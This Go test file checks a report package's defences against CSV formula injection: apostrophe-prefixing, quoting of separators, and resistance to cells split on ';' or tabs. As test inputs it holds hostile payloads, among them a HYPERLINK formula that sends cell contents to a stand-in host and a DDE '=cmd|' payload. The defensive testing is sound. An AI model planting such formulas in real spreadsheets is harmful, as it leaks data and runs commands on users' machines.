package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/listscrub/listscrub/scrub"
)

func TestSpreadsheetSafe(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"", ""},
		{"Paris", "Paris"},
		{"12", "12"},
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("http://x.example/?"&A1,"clic")`, `'=HYPERLINK("http://x.example/?"&A1,"clic")`},
		{"+33", "'+33"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"a=1", "a=1"},
		{"'quoted", "'quoted"},
		// A separator another reader may split on (French Excel's ';',
		// LibreOffice's tab, ','), then optional blanks, then a formula
		// character: the cell after the split would run.
		{"x;=HYPERLINK(A1);", "'x;=HYPERLINK(A1);"},
		{"x\t=1+1", "'x\t=1+1"},
		{"x,+1", "'x,+1"},
		{"x; -1", "'x; -1"},
		{"x;\u00a0@A1", "'x;\u00a0@A1"},
		{"x\n=1", "'x\n=1"},
		{"x\r\n=1", "'x\r\n=1"},
		{" =1", "' =1"},
		{"a;b", "a;b"},
		{"a; b=1", "a; b=1"},
		{"1-2", "1-2"},
		{"x;", "x;"},
	} {
		if got := spreadsheetSafe(c.in); got != c.want {
			t.Errorf("spreadsheetSafe(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// writeCSV quotes every cell that holds a separator some spreadsheet may
// split on (',', ';', tab), a quote or a line break, so that the cell stays
// one cell whatever separator the reader assumes.
func TestWriteCSVRecordQuotes(t *testing.T) {
	for _, c := range []struct {
		rec  []string
		want string
	}{
		{[]string{"a", "b", ""}, "a,b,\n"},
		{[]string{"a;b", "c"}, "\"a;b\",c\n"},
		{[]string{"a\tb"}, "\"a\tb\"\n"},
		{[]string{"a,b"}, "\"a,b\"\n"},
		{[]string{`say "hi"`}, "\"say \"\"hi\"\"\"\n"},
		{[]string{"a\rb", "a\nb"}, "\"a\rb\",\"a\nb\"\n"},
		{[]string{" lead"}, "\" lead\"\n"},
		{[]string{"'=1", "x|y"}, "'=1,x|y\n"},
	} {
		var b bytes.Buffer
		if err := writeCSV(&b, [][]string{c.rec}); err != nil {
			t.Fatal(err)
		}
		if got := b.String(); got != c.want {
			t.Errorf("writeCSV(%q) = %q, want %q", c.rec, got, c.want)
		}
		back, err := csv.NewReader(&b).Read()
		if err != nil || len(back) != len(c.rec) {
			t.Errorf("writeCSV(%q) reads back as %q, %v", c.rec, back, err)
			continue
		}
		for i := range back {
			if back[i] != strings.ReplaceAll(c.rec[i], "\r\n", "\n") && back[i] != c.rec[i] {
				t.Errorf("writeCSV(%q): cell %d reads back as %q", c.rec, i, back[i])
			}
		}
	}
}

// Every cell WriteCSV writes, the --by values and source labels included,
// reads back (as CSV) without a formula lead character.
func TestWriteCSVNeutralizesFormulas(t *testing.T) {
	payloads := []string{`=cmd|' /C calc'!A0`, "+1", "-1", "@A1", "\t=1", "\r=1", "x;=1", "x\t+1", "x, @A1"}
	st := &scrub.Stats{}
	st.BlockedBySource.Add("=src", 1)
	st.InvalidByReason.Add("empty", 0)
	r := &Report{Stats: st}
	var vals Breakdown
	for _, p := range payloads {
		vals = append(vals, Bucket{Key: p, Label: p, Counts: Counts{Rows: 1}})
	}
	r.ByColumn = Columns{{Column: "=col", Values: vals}}
	var b bytes.Buffer
	if err := r.WriteCSV(&b); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, rec := range recs {
		for _, c := range rec {
			if c != "" && bytes.IndexByte([]byte("=+-@\t\r"), c[0]) >= 0 {
				t.Errorf("cell %q starts with a formula character", c)
			}
			// Split as a reader assuming ';' or tab would: no piece may
			// start (after blanks) with a formula character either.
			for _, piece := range strings.FieldsFunc(c, func(r rune) bool { return r == ';' || r == '\t' || r == ',' }) {
				if p := strings.TrimSpace(piece); p != "" && strings.IndexByte("=+-@", p[0]) >= 0 && c[0] != '\'' {
					t.Errorf("cell %q holds a formula after a separator", c)
				}
			}
			seen[c] = true
		}
	}
	for _, p := range append(payloads, "=src") {
		if !seen["'"+p] {
			t.Errorf("no cell %q", "'"+p)
		}
	}
}
